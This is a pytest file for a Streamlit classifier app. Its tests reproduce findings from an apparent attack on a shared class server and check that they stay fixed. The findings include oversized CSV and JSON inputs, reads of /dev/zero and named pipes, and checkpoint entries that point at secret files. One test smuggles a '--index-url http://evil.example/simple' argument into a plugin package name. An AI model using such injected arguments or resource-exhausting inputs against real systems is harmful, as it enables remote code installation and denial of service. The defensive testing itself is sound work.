"""A server a class shares: no visitor replaces or reads what is not theirs, and no upload or file
name costs the server more than its limits (the training slots and the checkpoints one visitor
holds: ``tests/app/test_run_policy.py``). Each test reproduces one finding of the attack on a live
server."""
from __future__ import annotations

import json
import os
import shutil
import threading
import time
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from bench.soak import _hashes as _digest  # the soak's own check of checkpoint bytes
from hierattn.checkpoint.reading import load_classifier
from hierattn.data.dataset import DataError
from hierattn.data.files import NotAFile, open_text, read_bytes
from hierattn.data.formats import read_rows
from hierattn.limits import UPLOAD_MB, LimitExceeded
from hierattn.training.run_names import JobError
from tests.app.test_train_page import configure, messages, open_train_page, toy_csv, upload, wait_for
from tests.conftest import REPO, edit_config
from tests.training.test_jobs import _job


# ---- 3. a wide CSV -----------------------------------------------------------------------------
@pytest.mark.parametrize("columns", [300_000, 3_000_000])
def test_a_wide_table_is_refused_before_its_columns_are_built(columns):
    """300,000 columns in 2.9 MB took 27 s and 2.36 GB; 3 million in 32 MB, over 10 GB. Judged
    on the raw header line, before the csv module splits it: this thread's CPU time (which a busy
    machine does not inflate) stays a fraction of that."""
    import tracemalloc

    raw = (",".join(f"c{i}" for i in range(columns)) + "\n" + "," * (columns - 1) + "\n").encode()
    tracemalloc.start()
    start = time.thread_time()
    with pytest.raises(DataError, match="header line is .* KB, over the limit of 64 KB"):
        read_rows(raw, "wide.csv")
    seconds, peak = time.thread_time() - start, tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert seconds < 5 and peak < 8 * len(raw) + 50 * 2**20  # the decoded text, not the columns


def test_many_short_columns_and_wide_json_lines_are_refused():
    narrow = (",".join("abcdefghij"[i % 10] for i in range(1_500)) + "\nx" + "," * 1_499 + "\n").encode()
    with pytest.raises(DataError, match="the number of columns is 1,500, over the limit of 1,000"):
        read_rows(narrow, "narrow.csv")
    wide_json = (json.dumps({f"k{i}": 1 for i in range(1_500)}) + "\n").encode()
    with pytest.raises(DataError, match="line 1: the number of fields is 1,500"):
        read_rows(wide_json, "wide.jsonl")
    deep = ("[" * 200_000 + "]" * 200_000 + "\n").encode()
    with pytest.raises(DataError, match="line 1 is nested too deeply"):
        read_rows(deep, "deep.jsonl")
    # each line within the limit, together 998,002 columns: a core busy 9 minutes
    spread = "".join(json.dumps({"text": "t", "label": "a"} | {f"k{line}-{i}": 1 for i in range(998)}) + "\n"
                     for line in range(30)).encode()
    with pytest.raises(DataError, match="wide.jsonl up to line 2: the number of distinct fields is more than 1,000"):
        read_rows(spread, "wide.jsonl")


def test_the_train_page_previews_a_bounded_width(train_env):
    header = ["text", "label"] + [f"extra{i}" for i in range(60)]
    rows = [",".join(header)] + [",".join([f"film {i} was {'good' if i % 2 else 'bad'}", "ab"[i % 2]] + ["0"] * 60)
                                 for i in range(40)]
    at = upload(open_train_page(), ("\n".join(rows) + "\n").encode(), "wide.csv")
    assert "40 rows and 62 columns. The first ten rows, in the first 30 columns" in messages(at)
    assert len(at.dataframe[0].value.columns) == 30
    assert len(at.selectbox(key="text_column").options) == 62  # every column can still be picked


# ---- 4. replacing a checkpoint from the page ---------------------------------------------------
@pytest.mark.slow  # trains
def test_a_visitor_never_replaces_a_shipped_or_anothers_checkpoint(train_env):
    """On the previous code, "Replace a checkpoint with this name" turned tweets-han into a
    visitor's 2-epoch Kim CNN. Shipped checkpoints and other visitors' are now never replaced from
    the page; a run of one's own session is; the command line keeps its explicit flag."""
    before = _digest(train_env)
    at = configure(upload(open_train_page(), toy_csv()), "tiny-han", epochs=1)
    at.checkbox(key="replace").check().run()
    at.button(key="start").click().run()
    assert "a checkpoint this session did not train" in messages(at) and "choose another name" in messages(at)
    assert _digest(train_env) == before
    # one's own run, replaced by one's own next run
    at = configure(upload(open_train_page(), toy_csv()), "films-mine", epochs=1)
    at.button(key="start").click().run()
    wait_for(at, lambda a: "saved as" in messages(a))
    at.checkbox(key="replace").check().run()
    at.button(key="start").click().run()
    assert "did not train" not in messages(at)
    wait_for(at, lambda a: "saved as" in messages(a))
    # another visitor (another session: AppTest gives every script run one id, so named here) may not
    from hierattn.app.train_form import job_manager

    manager = job_manager()
    with pytest.raises(JobError, match="a checkpoint this session did not train"):
        manager.start(_job(train_env, "films-mine", replace_existing=True), session="another visitor")
    assert manager.made_by(train_env / "films-mine", next(iter(manager.owners(manager.jobs()[0]))))


# ---- 5. files a checkpoint names ---------------------------------------------------------------
def _corpus_entry(path: str) -> dict:
    return {"format": "csv", "files": {"test": [path, 1, 1]}, "text_column": "text", "label_column": "label"}


def test_a_checkpoints_corpus_is_read_only_inside_the_allowed_folders(app_env, tmp_path, monkeypatch):
    """A metrics.json "corpus" entry with absolute paths made Explore's sample list show the
    lines of a file outside the checkpoint root (canary secrets); /dev/zero took 3 GB in 6 s; a
    FIFO hung the page and every later visitor of that checkpoint."""
    root = Path(os.environ["HIERATTN_CHECKPOINTS"])
    secret = tmp_path / "outside" / "secrets.csv"
    secret.parent.mkdir()
    secret.write_text("text,label\nCANARY-1234 the admin password,x\nCANARY-5678 another secret,y\n")
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    copies = tmp_path / "checkpoints"
    shutil.copytree(root, copies)
    for name, target in (("canary", str(secret)), ("zero", "/dev/zero"), ("fifo", str(fifo))):
        shutil.copytree(copies / "tiny-han", copies / name)
        (copies / name / "metrics.json").write_text(json.dumps({"corpus": _corpus_entry(target)}))
    monkeypatch.setenv("HIERATTN_CHECKPOINTS", str(copies))
    result = {}

    def visit():
        at = AppTest.from_file(str(REPO / "pages/explore.py"), default_timeout=60).run()
        for name in ("canary", "zero", "fifo"):
            at.selectbox(key="model").set_value(name).run()
            result[name] = list(at.selectbox(key="sample").options)
        result["exception"] = at.exception

    worker = threading.Thread(target=visit, daemon=True)
    worker.start()
    worker.join(90)
    assert not worker.is_alive(), "the page hung on a checkpoint's corpus entry"
    assert not result["exception"]
    assert not any("CANARY" in o for options in (result["canary"], result["zero"], result["fifo"]) for o in options)
    # Where the server allows that folder (HIERATTN_CORPORA), the same entry is read, as a file
    monkeypatch.setenv("HIERATTN_CORPORA", str(secret.parent))
    from hierattn.data.corpora import corpus_roots, from_settings, test_samples

    corpus = from_settings("canary", _corpus_entry(str(secret)), corpus_roots(copies))
    assert [label for label, _ in test_samples(corpus)] == ["x", "y"]
    monkeypatch.setenv("HIERATTN_CORPORA", "/dev")
    with pytest.raises(NotAFile, match="is a device, not a file"):
        list(test_samples(from_settings("zero", _corpus_entry("/dev/zero"), corpus_roots(copies))))


def test_files_are_read_regular_bounded_and_never_blocking(tmp_path, monkeypatch):
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    for path, message in ((fifo, "is a named pipe, not a file"), (Path("/dev/zero"), "is a device, not a file"),
                          (tmp_path, "is a folder, not a file")):
        with pytest.raises(NotAFile, match=message):
            read_bytes(path, UPLOAD_MB)
    monkeypatch.setenv("HIERATTN_MAX_UPLOAD_MB", "0.001")
    big = tmp_path / "big.txt"
    big.write_text("x" * 5000)
    with pytest.raises(LimitExceeded, match="big.txt's size is 0.00 MB, over the limit of 0.001 MB"):
        read_bytes(big, UPLOAD_MB)
    with pytest.raises(LimitExceeded, match="over the limit of 0.001 MB"), open_text(big, UPLOAD_MB) as f:
        f.read()  # one endless line is cut at the limit, not read whole


def test_a_checkpoint_file_that_is_a_fifo_is_refused_not_waited_on(checkpoint_dir, tmp_path):
    path = tmp_path / "han"
    shutil.copytree(checkpoint_dir / "tiny-han", path)
    (path / "metrics.json").unlink()
    os.mkfifo(path / "metrics.json")
    from hierattn.checkpoint.format import CheckpointError

    with pytest.raises(CheckpointError, match="is a named pipe, not a file"):
        load_classifier(path, device="cpu")


# ---- 9. names a checkpoint gives of its plug-in ------------------------------------------------
def test_a_checkpoints_plugin_names_are_names_and_never_an_install_command(checkpoint_dir, tmp_path):
    from hierattn.checkpoint.format import CheckpointError
    from hierattn.checkpoint.writing import card

    path = tmp_path / "evil"
    shutil.copytree(checkpoint_dir / "tiny-han", path)
    edit_config(path, lambda c: c.update(model_type="evil_model",
                                         plugin={"package": "x --index-url http://evil.example/simple",
                                                 "entry_point": "x"}))
    with pytest.raises(CheckpointError) as error:
        load_classifier(path, device="cpu")
    assert "pip install" not in str(error.value) and "evil.example" not in str(error.value)
    assert "not a package or file name" in str(error.value)
    assert "evil.example" not in card(path)
    edit_config(path, lambda c: c.update(plugin={"package": "good-plugin", "version": "1.2", "entry_point": "x"}))
    with pytest.raises(CheckpointError, match=r"pip install good-plugin\)"):
        load_classifier(path, device="cpu")


# ---- 11. the command line's files --------------------------------------------------------------
@pytest.mark.parametrize("argv", [["explain", "--checkpoint", "{ckpt}", "--file", "{target}"],
                                  ["train", "--model", "han", "--file", "{target}", "--epochs", "1"],
                                  ["evaluate", "--checkpoints", "{ckpt}", "--file", "{target}"]])
@pytest.mark.parametrize("target,message", [("/dev/zero", "is a device, not a file"),
                                            ("{fifo}", "is a named pipe, not a file")])
def test_the_command_line_reads_files_regular_and_bounded(checkpoint_dir, tmp_path, capsys, argv, target, message):
    """`explain --file /dev/zero` was killed by the kernel at 20.8 GB."""
    from tests.test_hostile_input import cli_fails

    fifo = tmp_path / "fifo.csv"
    os.mkfifo(fifo)
    filled = [a.format(ckpt=checkpoint_dir / "tiny-han", target=target.format(fifo=fifo)) for a in argv]
    cli_fails(filled, capsys, message)


# ---- explanations kept by memory -----------------------------------------------------------------
def test_explanations_are_kept_within_their_memory_budget(checkpoint_dir, monkeypatch):
    """Explanations were kept up to 64, whatever their size (one was 1.95 GB): now by their size
    in memory, the least recently used let go first, one larger than the whole budget not kept."""
    from hierattn.analysis.explain import explain
    from hierattn.app.loading import _Explanations

    classifier = load_classifier(checkpoint_dir / "tiny-hcan", device="cpu")
    texts = [f"The team won match {i}. The fans sang. " * (1 + i % 3) for i in range(12)]
    made = [explain(classifier, t) for t in texts]
    sizes = [e.nbytes for e in made]
    assert min(sizes) > 1000 and all(e.nbytes >= sum(a.weights.numel() * 4 for a in e.attentions.values())
                                     for e in made)
    budget_mb = 3.5 * max(sizes) / 2**20
    monkeypatch.setenv("HIERATTN_EXPLANATION_MEMORY_MB", str(budget_mb))
    kept = _Explanations()
    for i, e in enumerate(made):
        kept.keep(("tiny-hcan", 0.0, texts[i]), e)
        assert kept.held_bytes <= budget_mb * 2**20
    assert kept.find(("tiny-hcan", 0.0, texts[-1])) is made[-1] and kept.find(("tiny-hcan", 0.0, texts[0])) is None
    monkeypatch.setenv("HIERATTN_EXPLANATION_MEMORY_MB", str(min(sizes) / 2 / 2**20))
    alone = _Explanations()
    alone.keep(("tiny-hcan", 0.0, texts[0]), made[0])
    assert alone.held_bytes == 0


def test_a_remembered_figure_is_built_once_and_counted_in_its_explanation(checkpoint_dir):
    """What a page builds from an explanation (a figure, a table) is kept with it for every session
    shown it, built once however many sessions ask at the same moment, and counted in its size, so
    the explanations kept stay within their budget."""
    import threading
    import time

    from hierattn import viz
    from hierattn.analysis.explain import explain

    ex = explain(load_classifier(checkpoint_dir / "tiny-hcan", device="cpu"), "The team won. The fans sang loudly.")
    before, built = ex.nbytes, []

    def build():
        built.append(1)
        time.sleep(0.2)  # the sessions arrive while it is built
        return viz.attention_heatmap(ex.self_attention("word.self.a", 0, 0), ["the", "team", "won"], "t")

    got = []
    threads = [threading.Thread(target=lambda: got.append(ex.remembered("heatmap", build))) for _ in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(built) == 1 and len(got) == 6 and all(g is got[0] for g in got)
    assert ex.nbytes - before > 3 * 3 * 8  # at least its cells; the figure's description, roughly


def test_a_class_pasting_one_sample_at_once_computes_it_once(checkpoint_dir, monkeypatch):
    """Thirty students pasting the same sample at the same moment each computed the explanation, side by
    side; now the first computes it and the others wait for it, and all are shown the same one."""
    import threading
    import time

    from hierattn.app import loading

    calls = []
    real = loading.explain

    def counted(classifier, text):
        calls.append(text)
        time.sleep(0.3)  # long enough that every session asks while it is computed
        return real(classifier, text)

    monkeypatch.setattr(loading, "explain", counted)
    path, text, got = checkpoint_dir / "tiny-han", "One shared sample. Everyone pastes it.", []
    threads = [threading.Thread(target=lambda: got.append(loading.explain_cached(path, text))) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert calls == [text] and len(got) == 8 and all(g is got[0] for g in got)
    assert not loading.explanations().flights  # nothing left in flight
    loading.explain_cached(path, "Another text. Its own computation.")
    assert len(calls) == 2


def test_kept_explanations_are_measured_again_as_what_they_hold_grows(monkeypatch):
    """A transformer's explanation computes its word maps and metrics when read: what it holds grows
    after it is kept, and the cache counts it then (the least recently used go)."""
    from hierattn.app.loading import _Explanations

    class Growing:
        def __init__(self):
            self.nbytes = 1 << 20

    monkeypatch.setenv("HIERATTN_EXPLANATION_MEMORY_MB", "3.5")
    kept, made = _Explanations(), [Growing() for _ in range(3)]
    for i, e in enumerate(made):
        kept.keep(("m", 0.0, str(i)), e)
    assert kept.held_bytes == 3 << 20
    made[2].nbytes = 2 << 20  # its maps were read
    assert kept.find(("m", 0.0, "2")) is made[2]
    assert kept.find(("m", 0.0, "0")) is None and kept.held_bytes == 3 << 20  # the oldest went
    made[2].nbytes = 9 << 20  # past the whole budget: the most recent is still kept, alone
    assert kept.find(("m", 0.0, "2")) is made[2] and [k[2] for k in kept.items] == ["2"]


# ---- low ---------------------------------------------------------------------------------------
def test_low_findings(checkpoint_dir, tmp_path, capsys, tiny_vocab):
    import torch

    from hierattn.checkpoint.format import CheckpointError
    from hierattn.checkpoint.writing import save_checkpoint
    from hierattn.data.text import TextConfig
    from hierattn.models import build_model
    from tests.test_hostile_input import cli_fails
    from tests.tiny import LABELS

    for flag, message in ((["--batch-size", "0"], "batch_size must be a whole number of at least 1, not 0"),
                          (["--lr", "nan"], "lr must be a number of at least 0, not nan"),
                          (["--set", "embed_dim=-1"], "embed_dim must be a whole number of at least 1, not -1")):
        cli_fails(["train", "--model", "han", "--dataset", "tweets", *flag], capsys, message)
    model = build_model("han", {"vocab_size": len(tiny_vocab), "num_classes": 4, "embed_dim": 8, "hidden": 4})
    with torch.no_grad():
        model.embedding.weight[3, 0] = float("nan")
    save_checkpoint(tmp_path / "nan", model, "han", tiny_vocab, LABELS, TextConfig(4, 8), {})
    with pytest.raises(CheckpointError, match="holds NaN or infinite values"):
        load_classifier(tmp_path / "nan", device="cpu")


def test_a_sample_id_from_the_address_bar_is_a_built_in_one(app_env):
    at = AppTest.from_file(str(REPO / "pages/explore.py"), default_timeout=60)
    at.query_params["sample"] = "bbc-news:" + "9" * 5000
    at.run()
    assert not at.exception and "there is no sample" in str([e.value for e in [*at.warning, *at.error]])
    at = AppTest.from_file(str(REPO / "pages/explore.py"), default_timeout=60)
    at.query_params["sample"] = "not-a-data-set:0"
    at.run()
    assert not at.exception


def test_a_session_holds_its_latest_pastes_and_the_rest_stay_on_disk(app_env):
    from hierattn.app.url_state import PASTED, PASTES_PER_SESSION

    at = AppTest.from_file(str(REPO / "pages/explore.py"), default_timeout=60).run()
    for i in range(PASTES_PER_SESSION + 4):
        at.text_area(key="document").input(f"The team won match number {i} on Sunday.").run()
    assert len(at.session_state[PASTED]) == PASTES_PER_SESSION
    assert not at.exception
